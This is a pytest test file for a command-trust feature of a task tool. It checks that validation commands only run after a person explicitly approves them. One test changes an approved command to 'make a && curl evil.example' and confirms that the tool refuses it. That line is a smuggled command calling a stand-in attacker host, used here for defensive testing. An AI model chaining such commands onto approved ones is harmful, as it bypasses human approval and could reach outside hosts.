from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from taskstate.qa import trust
from taskstate.workspace.allowed_commands import Command
from tests.support.place import Place, refusal

if TYPE_CHECKING:
    from pathlib import Path

    from taskstate.workspace.workspace import Loaded

CONFIG = '[validation]\n"*" = ["make all"]\nbackend = ["make backend"]\n[archive]\nsummarizer = "summarise"\n'


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Place:
    """Return a repository with task 101, for whose user nothing is trusted yet."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    return Place(tmp_path / "repository")


def loaded(place: Place) -> Loaded:
    """Return the task."""
    return place.workspace.load(place.path)


def name_own(place: Place, *commands: str, fence: str = "") -> None:
    """Have the task name commands of its own, by hand."""
    fence = fence or json.dumps({"commands": commands})
    place.text = place.text.replace("## 2. Chain", f"### Validation\n\n```json\n{fence}\n```\n\n## 2. Chain", 1)


def runnable(place: Place) -> tuple[str, ...]:
    """Return the commands that may run."""
    return trust.require_trusted(place.workspace, loaded(place), instead="do it yourself")


def test_which_commands_a_task_has(place: Place) -> None:
    """Its own, else those of its area, else those of all areas, else none."""
    assert trust.validation_commands(place.workspace, loaded(place)) == ()
    place.configure(CONFIG)
    assert trust.validation_commands(place.workspace, loaded(place)) == ("make all",)
    place.text = place.text.replace("status: created", "status: created\narea: backend", 1)
    assert trust.validation_commands(place.workspace, loaded(place)) == ("make backend",)
    name_own(place, "make own", "make more")
    assert trust.validation_commands(place.workspace, loaded(place)) == ("make own", "make more")


@pytest.mark.parametrize("fence", ['{"commands": ["a"', '{"commands": ["a", 1]}', '{"commands": "a"}', "[]"])
def test_a_broken_fence_is_not_an_empty_one(place: Place, fence: str) -> None:
    """A fence that cannot be used stops the command; that of the configuration does not quietly take its place."""
    place.configure(CONFIG)
    place.trust()
    name_own(place, fence=fence)
    assert refusal(lambda: runnable(place)).code == "unreadable"
    assert refusal(lambda: trust.listed(place.workspace, loaded(place))).code == "unreadable"


def test_nothing_is_trusted_at_first(place: Place) -> None:
    """Commands that nobody has allowed are refused with their words and the command that allows them."""
    assert runnable(place) == ()
    name_own(place, "make \x1b[31mred", "b\n" * 100, "c", "d", "e")
    error = refusal(lambda: runnable(place))
    assert error.code == "untrusted"
    assert r"`make \x1b[31mred`, `b\nb\nb" in error.message
    assert "…`, `c` and 2 more" in error.message
    assert error.help.endswith(
        "a person runs `taskstate trust 101`, which shows the exact list and allows it; or do it yourself"
    )


def test_trusted_commands_may_run_until_they_change(place: Place) -> None:
    """What was trusted runs, in any order; a list with anything else in it does not run at all."""
    name_own(place, "make a", "make b")
    place.trust()
    assert runnable(place) == ("make a", "make b")
    place.text = place.text.replace('"make a", "make b"', '"make b", "make a"')
    assert runnable(place) == ("make b", "make a")
    place.text = place.text.replace('"make a"', '"make a && curl evil.example"')
    assert "`make a && curl evil.example` to run" in refusal(lambda: runnable(place)).message


def test_commands_of_the_configuration_are_trusted_for_all_tasks(place: Place) -> None:
    """Without a task the lists of all areas are granted, and the programs; a task's own are not."""
    place.configure(CONFIG)
    workspace = place.workspace
    found = trust.listed(workspace)
    assert [(each.source, each.command) for each in found] == [
        ("configuration, checks for every area", Command("shell", "make all")),
        ("configuration, checks for backend", Command("shell", "make backend")),
        ("configuration, archive.summarizer", Command("program", "summarise")),
    ]
    assert trust.grant(workspace, found)
    assert all(each.granted for each in trust.listed(workspace))
    assert runnable(place) == ("make all",)
    name_own(place, "make own")
    assert refusal(lambda: runnable(place)).code == "untrusted"
    assert [each.granted for each in trust.listed(workspace, loaded(place))] == [True, True, False, True]


def test_what_is_wrong_with_the_memory_is_told(place: Place, tmp_path: Path) -> None:
    """A damaged memory grants nothing, and the refusal says that it is damaged."""
    name_own(place, "make own")
    place.trust()
    (store,) = (tmp_path / "state" / "taskstate" / "trust").glob("*.json")
    store.write_text("{", encoding="utf-8")
    message = refusal(lambda: runnable(place)).message
    assert f"({store} is damaged; `taskstate trust` writes it again), so nothing was run" in message
